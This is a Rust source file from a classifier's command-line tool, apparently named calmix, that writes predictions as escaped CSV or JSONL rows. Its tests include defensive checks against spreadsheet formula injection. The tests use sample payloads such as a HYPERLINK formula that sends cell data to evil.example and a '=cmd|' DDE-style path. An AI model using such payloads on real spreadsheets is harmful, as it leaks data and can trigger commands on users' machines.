//! A row of the output, as a line of CSV or JSON.

use calmix_metrics::shift::ObservedRow;
use calmix_run::csv_line::{CsvCell, csv_line};
use serde::Serialize;

use super::prediction_rule::Prediction;
use crate::args::predict::RowKind;
use crate::error::CliError;
use crate::output::format::grouped;
use crate::predict::input::InputKind;

pub use calmix_io::shown::escaped;

/// The content of a row: the prediction for an input, or the reason why it could not be read.
#[derive(Debug, Default)]
pub struct PredictedRow<'a> {
    /// The name of the input, escaped by [`escaped`].
    pub name: String,
    pub prediction: Option<&'a Prediction>,
    /// The features of the input, if requested and if it could be read.
    pub features: Option<&'a [f32]>,
    pub error: Option<String>,
    /// Its calibrated probabilities before they were adapted to another mix of classes; `None` if they were not.
    pub calibrated: Option<&'a [f32]>,
    /// How the input compares with the reference of the model, if it has one.
    pub observed: Option<&'a ObservedRow>,
}

/// The format of rows.
#[derive(Debug, Default)]
pub struct RowFormat<'a> {
    pub kind: RowKind,
    /// The kind of the inputs.
    pub input: InputKind,
    pub classes: &'a [String],
    /// Whether to write the probabilities of all classes.
    pub probabilities: bool,
    /// Whether to write the features of the input.
    pub features: bool,
    /// Whether to write how usual the input is among those of training.
    pub unusual: bool,
    /// The number of rows per Parquet file.
    pub rows_of_part: u64,
}

#[derive(Serialize)]
struct JsonRow<'a> {
    #[serde(skip_serializing_if = "Option::is_none")]
    path: Option<&'a str>,
    #[serde(skip_serializing_if = "Option::is_none")]
    id: Option<&'a str>,
    label: Option<&'a str>,
    confidence: Option<f32>,
    margin: Option<f32>,
    set: Option<Vec<&'a str>>,
    abstain: Option<bool>,
    error: Option<&'a str>,
    #[serde(skip_serializing_if = "Option::is_none")]
    unusual: Option<f32>,
    #[serde(skip_serializing_if = "Option::is_none")]
    probabilities: Option<&'a [f32]>,
    #[serde(skip_serializing_if = "Option::is_none")]
    features: Option<&'a [f32]>,
}

impl RowFormat<'_> {
    /// Returns the name of a class.
    pub fn class(&self, class: usize) -> &str {
        self.classes.get(class).map_or("", String::as_str)
    }

    /// Returns the header line; empty if the format has none.
    pub fn header(&self) -> String {
        if self.kind != RowKind::Csv {
            return String::new();
        }
        let names = [self.input.column(), "label", "confidence", "margin", "set", "abstain", "error"];
        let probabilities = self.classes.iter().filter(|_| self.probabilities);
        let probabilities =
            probabilities.map(|class| CsvCell::text(format!("p({})", escaped(class.as_bytes()))));
        let unusual = self.unusual.then(|| CsvCell::text("unusual"));
        csv_line(names.map(CsvCell::text).into_iter().chain(unusual).chain(probabilities))
    }

    /// Returns the beginning that all rows of this name have, and no row of another name.
    pub fn beginning(&self, name: &str) -> String {
        match self.kind {
            // Add an empty second cell, so that the beginning ends with the separator.
            RowKind::Csv => csv_line([text_cell(name), CsvCell::text("")]).trim_end_matches('\n').to_owned(),
            RowKind::Jsonl => format!("{{\"{}\":{},", self.input.column(), serde_json::Value::from(name)),
            RowKind::Parquet => format!("{name}\n"),
        }
    }

    /// Returns the line of an input. Parquet has none.
    pub fn row(&self, row: &PredictedRow<'_>) -> String {
        match self.kind {
            RowKind::Csv => self.csv(row),
            RowKind::Jsonl => self.json(row),
            RowKind::Parquet => String::new(),
        }
    }

    /// Returns the p-value of a row, if it is written.
    pub fn unusual(&self, row: &PredictedRow<'_>) -> Option<f32> {
        row.observed.filter(|_| self.unusual).map(|observed| observed.p_value as f32)
    }

    fn json(&self, row: &PredictedRow<'_>) -> String {
        let PredictedRow { name, prediction, features, error, .. } = row;
        let unusual = self.unusual(row);
        let set = prediction.and_then(|prediction| prediction.set.as_ref());
        let row = JsonRow {
            path: (self.input == InputKind::Image).then_some(name),
            id: (self.input == InputKind::Vector).then_some(name),
            label: prediction.map(|prediction| self.class(prediction.label)),
            confidence: prediction.map(|prediction| prediction.confidence),
            margin: prediction.map(|prediction| prediction.margin),
            set: set.map(|set| set.iter().map(|&class| self.class(class as usize)).collect()),
            abstain: prediction.and_then(|prediction| prediction.abstain),
            error: error.as_deref(),
            unusual,
            probabilities: prediction
                .filter(|_| self.probabilities)
                .map(|prediction| prediction.probabilities.as_slice()),
            features: *features,
        };
        // Texts and finite numbers can always be serialised.
        serde_json::to_string(&row).unwrap_or_default() + "\n"
    }

    fn csv(&self, row: &PredictedRow<'_>) -> String {
        let PredictedRow { name, prediction, error, .. } = row;
        let class = |class: usize| escaped(self.class(class).as_bytes());
        let set = prediction.and_then(|prediction| prediction.set.as_ref());
        let set = set.map(|set| {
            let members = set.iter().map(|&member| class(member as usize).replace('|', "\\x7c"));
            members.collect::<Vec<_>>().join("|")
        });
        let mut cells = vec![
            text_cell(name),
            text_cell(&prediction.map(|prediction| class(prediction.label)).unwrap_or_default()),
            CsvCell::plain(prediction.map(|prediction| prediction.confidence)),
            CsvCell::plain(prediction.map(|prediction| prediction.margin)),
            text_cell(&set.unwrap_or_default()),
            CsvCell::plain(prediction.and_then(|prediction| prediction.abstain)),
            text_cell(&escaped(error.as_deref().unwrap_or_default().as_bytes())),
        ];
        if self.unusual {
            cells.push(CsvCell::plain(self.unusual(row)));
        }
        if self.probabilities {
            let probability = |class| prediction.and_then(|prediction| prediction.probabilities.get(class));
            cells.extend((0..self.classes.len()).map(|class| CsvCell::plain(probability(class))));
        }
        csv_line(cells)
    }
}

/// Makes a cell of an escaped text. A leading apostrophe marks a text that looks like a formula, so a text that itself begins
/// with one has it as `\x27`: two paths never give the same cell.
fn text_cell(text: &str) -> CsvCell<'static> {
    match text.strip_prefix('\'') {
        Some(rest) => CsvCell::text(format!("\\x27{rest}")),
        None => CsvCell::text(text.to_owned()),
    }
}

/// The rows that an interrupted output already contains.
#[derive(Debug, Default, PartialEq, Eq)]
pub struct WrittenRows {
    /// The number of complete rows.
    pub rows: u64,
    /// The beginning of the last row, which identifies its input.
    pub last: String,
}

impl WrittenRows {
    /// Checks that the last row is about this input.
    ///
    /// # Errors
    /// If the inputs have changed since the rows were written.
    pub fn check_last(&self, format: &RowFormat<'_>, name: Option<&str>) -> Result<(), CliError> {
        if name.is_some_and(|name| self.last.starts_with(&format.beginning(name))) {
            return Ok(());
        }
        let input = format.input.word();
        let message = format!("{input} {} is not the one that was predicted before", grouped(self.rows));
        let hint = format!("the list of {input}s has changed: predict it into another file");
        Err(CliError::invalid(message).hint(hint))
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn prediction(margin: f32) -> Prediction {
        Prediction {
            label: 0,
            confidence: 0.75,
            margin,
            probabilities: vec![0.75, 0.25],
            set: Some(vec![0, 1]),
            abstain: Some(false),
        }
    }

    /// Numbers stay numbers, and two paths never have the same cell.
    #[test]
    fn csv_guards_spreadsheet_formulas() {
        let classes = ["=HYPERLINK(\"http://evil.example/?\"&A2,\"cat\")".to_owned(), "-1".to_owned()];
        let prediction = prediction(-0.5);
        let format = RowFormat { classes: &classes, ..RowFormat::default() };
        let row = |path: &str, prediction| {
            format.row(&PredictedRow { name: path.to_owned(), prediction, ..PredictedRow::default() })
        };
        let class = "'=HYPERLINK(\"\"http://evil.example/?\"\"&A2,\"\"cat\"\")";
        let expected = format!("'=cmd|calc.png,\"{class}\",0.75,-0.5,\"{class}|-1\",false,\n");
        assert_eq!(row("=cmd|calc.png", Some(&prediction)), expected);
        let other = Prediction { label: 1, set: Some(vec![1, 0]), ..prediction.clone() };
        assert!(row("a", Some(&other)).starts_with("a,-1,0.75,-0.5,\"'-1|=HYPERLINK("));
        let paths = ["=a", "'=a", "''=a", "\"=a", "+a", "-a", "@a", "a", "-1", "'-1"];
        for path in paths {
            assert!(row(path, None).starts_with(&format.beginning(path)), "{path}");
            assert!(!row(path, None).starts_with(['=', '+', '@']), "{path}");
            let taken = paths.iter().filter(|other| row(other, None).starts_with(&format.beginning(path)));
            assert_eq!(taken.count(), 1, "{path}");
        }
    }

    #[test]
    fn a_row_is_one_line_whatever_the_names() {
        let classes = ["cat, big".to_owned(), "a|b\n".to_owned()];
        let prediction = prediction(0.5);
        let format = |kind, probabilities| RowFormat {
            kind,
            classes: &classes,
            probabilities,
            ..RowFormat::default()
        };
        let path = escaped(b"a\xffb\n\"\\.png");
        assert_eq!(path, r#"a\xffb\x0a"\x5c.png"#);
        let (csv, jsonl) = (format(RowKind::Csv, true), format(RowKind::Jsonl, false));
        let row = || PredictedRow { name: path.clone(), ..PredictedRow::default() };
        let image = PredictedRow { prediction: Some(&prediction), ..row() };
        let bad = PredictedRow { error: Some("no, image".to_owned()), ..row() };
        let row = csv.row(&image);
        let start = r#""a\xffb\x0a""\x5c.png","#;
        assert_eq!(row, format!("{start}\"cat, big\",0.75,0.5,\"cat, big|a\\x7cb\\x0a\",false,,0.75,0.25\n"));
        assert_eq!(csv.beginning(&path), start);
        assert_eq!(csv.row(&bad), format!("{start},,,,,\"no, image\",,\n"));
        assert_eq!(
            csv.header(),
            "path,label,confidence,margin,set,abstain,error,\"p(cat, big)\",p(a|b\\x0a)\n"
        );
        let row = jsonl.row(&image);
        assert!(row.starts_with(&jsonl.beginning(&path)) && row.ends_with("}\n"), "{row}");
        assert_eq!(row.lines().count(), 1);
        let json: serde_json::Value = serde_json::from_str(&row).unwrap();
        assert_eq!((&json["set"][1], &json["path"]), (&"a|b\n".into(), &path.as_str().into()));
        assert!(!jsonl.beginning("a").starts_with(&jsonl.beginning("ab")));
        for kind in [RowKind::Csv, RowKind::Jsonl] {
            let of_vectors = RowFormat { input: InputKind::Vector, ..format(kind, false) };
            assert!(of_vectors.row(&image).starts_with(&of_vectors.beginning(&path)), "{kind:?}");
            assert!(of_vectors.header().is_empty() || of_vectors.header().starts_with("id,label,"));
        }
    }
}
